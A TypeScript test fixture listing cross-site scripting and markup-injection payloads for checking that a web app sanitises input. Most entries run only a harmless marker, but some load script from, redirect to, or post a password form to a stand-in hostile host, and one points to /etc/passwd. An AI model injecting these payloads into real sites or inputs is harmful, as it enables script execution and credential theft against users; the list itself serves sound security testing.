import type { Payload } from './payloads.js';

/** Loads nothing and is looked for in pages: an attack that came through would stand there with this word in it. */
const run = 'serang()';

const elements: readonly Payload[] = [
  { name: 'script element', kind: 'element', text: `<script>${run}</script>` },
  { name: 'script in odd case', kind: 'element', text: `<ScRiPt\u0020>${run}</sCrIpT >` },
  { name: 'script from elsewhere', kind: 'element', text: '<script src=//jahat.example/a.js></script>' },
  { name: 'image that fails', kind: 'element', text: `<img src=x onerror=${run}>` },
  { name: 'unclosed image', kind: 'element', text: `<img src=x onerror=${run} alt="` },
  { name: 'end of the title', kind: 'element', text: `</title><script>${run}</script>` },
  { name: 'end of a text area', kind: 'element', text: `</textarea><iframe srcdoc="<b onclick=${run}>">` },
  { name: 'end of a style', kind: 'element', text: `</style><body onload=${run}>` },
  { name: 'end of the page', kind: 'element', text: '</body></html><h1>Situs ini pindah</h1>' },
  { name: 'comment', kind: 'element', text: '<!-- --!><b>bebas</b>' },
  { name: 'character data', kind: 'element', text: `<![CDATA[><script>${run}</script>]]>` },
  { name: 'refresh', kind: 'element', text: '<meta http-equiv=refresh content="0;url=//jahat.example">' },
  { name: 'another base', kind: 'element', text: '<base href="//jahat.example/">' },
  { name: 'form that sends away', kind: 'element', text: '<form action=//jahat.example><input name=sandi>' },
  { name: 'frame', kind: 'element', text: `<iframe src="javascript:${run}"></iframe>` },
  { name: 'entities', kind: 'element', text: `&lt;script&gt;${run}&lt;/script&gt;` },
  { name: 'entities twice', kind: 'element', text: '&amp;lt;b&amp;gt; &#60;b&#62; &#x3c;b&#x3e;' },
  { name: 'entity without an end', kind: 'element', text: '&lt &copy &#0; &#xD800; &notin' },
  { name: 'template element', kind: 'element', text: `<template><img onerror=${run} src></template>` },
  { name: 'mathematics', kind: 'element', text: `<math><mi xlink:href="javascript:${run}">x</mi></math>` },
];

const attributes: readonly Payload[] = [
  { name: 'double quote and handler', kind: 'attribute', text: `" autofocus onfocus="${run}` },
  { name: 'single quote and handler', kind: 'attribute', text: `' onmouseover='${run}` },
  { name: 'handler without quotes', kind: 'attribute', text: `x onclick=${run} ` },
  { name: 'end of the tag', kind: 'attribute', text: `"><svg/onload=${run}>` },
  { name: 'backtick', kind: 'attribute', text: `\`onmouseover=${run}` },
  { name: 'entity quote', kind: 'attribute', text: `&quot; onclick=&quot;${run}` },
  { name: 'slashes for spaces', kind: 'attribute', text: `"/onclick="${run}"/style="display:block` },
];

const links: readonly Payload[] = [
  { name: 'javascript link', kind: 'link', text: `javascript:${run}` },
  { name: 'javascript in odd case', kind: 'link', text: `JaVaScRiPt:${run}//https://kabar.example/` },
  { name: 'javascript with a tab', kind: 'link', text: `java\tscript:${run}` },
  { name: 'javascript behind a control', kind: 'link', text: `\u0001javascript:${run}` },
  { name: 'javascript as entities', kind: 'link', text: `&#106;avascript&colon;${run}` },
  { name: 'data link', kind: 'link', text: `data:text/html;base64,PHNjcmlwdD5zZXJhbmcoKTwvc2NyaXB0Pg==` },
  { name: 'vbscript link', kind: 'link', text: 'vbscript:msgbox(1)' },
  { name: 'file link', kind: 'link', text: 'file:///etc/passwd' },
  { name: 'blob link', kind: 'link', text: 'blob:https://jahat.example/5e1f' },
  { name: 'link without a scheme', kind: 'link', text: '//jahat.example/berita' },
  {
    name: 'backslashes for slashes',
    kind: 'link',
    text: 'https:\\\\jahat.example\\@kabar.example',
    harmless: 'https://aaaaa.example/@aaaaa.example',
  },
  {
    name: 'quote in an address',
    kind: 'link',
    text: `https://kabar.example/"onclick="${run}`,
    harmless: 'https://kabar.example/aaaaaaaaaaaaaaaaaa',
  },
  {
    name: 'tag in an address',
    kind: 'link',
    text: `https://kabar.example/?a=<script>${run}</script>#<b>`,
    harmless: 'https://kabar.example/?a=aaaaaaaaaaaaaaaaaaaaaaaaa#aaa',
  },
  {
    name: 'name and password in an address',
    kind: 'link',
    text: 'https://kabar.example:443@jahat.example/%0d%0aX:1',
    harmless: 'https://aaaaaaaaaaaaa:443@aaaaa.example/%0d%0aa:1',
  },
  { name: 'address of no host', kind: 'link', text: 'https://' },
  { name: 'address that is none', kind: 'link', text: 'http://[::1' },
];

const pictures: readonly Payload[] = [
  { name: 'SVG with a handler', kind: 'svg', text: `<svg onload=${run}>` },
  { name: 'end of a text in SVG', kind: 'svg', text: `</text></svg><script>${run}</script>` },
  { name: 'end of a title in SVG', kind: 'svg', text: `</title><a xlink:href="javascript:${run}"><text>x` },
  { name: 'foreign object', kind: 'svg', text: `<foreignObject><body onload=${run}></foreignObject>` },
  { name: 'animated link', kind: 'svg', text: `<animate attributeName=href values="javascript:${run}">` },
  { name: 'use from elsewhere', kind: 'svg', text: '<use href="data:image/svg+xml;base64,PHN2Zy8+#x">' },
];

const styles: readonly Payload[] = [
  { name: 'end of a rule', kind: 'css', text: '}body{background:url(//jahat.example/x)}' },
  { name: 'expression', kind: 'css', text: `x:expression(${run})` },
  { name: 'import', kind: 'css', text: "@import '//jahat.example/a.css';" },
  { name: 'style attribute', kind: 'css', text: '";position:fixed;inset:0;background:red;"' },
];

const data: readonly Payload[] = [
  { name: 'end of a JSON string', kind: 'json', text: '","id":"lain","x":"' },
  { name: 'end of a JSON script', kind: 'json', text: `"}</script><script>${run}</script>` },
  { name: 'separators of lines', kind: 'json', text: `a\u2028${run}\u2029b` },
  { name: 'backslashes', kind: 'json', text: '\\"\\\\\\u0022\\' },
  { name: 'mustaches', kind: 'template', text: '{{constructor.constructor("serang()")()}}' },
  { name: 'dollar braces', kind: 'template', text: `\${${run}} #{${run}} <%= ${run} %>` },
  { name: 'format directives', kind: 'template', text: '%s%n%x%d $& $1 $` {0}' },
];

/** Payloads that would like to be markup. */
export const markupPayloads: readonly Payload[] = [
  ...elements,
  ...attributes,
  ...links,
  ...pictures,
  ...styles,
  ...data,
];
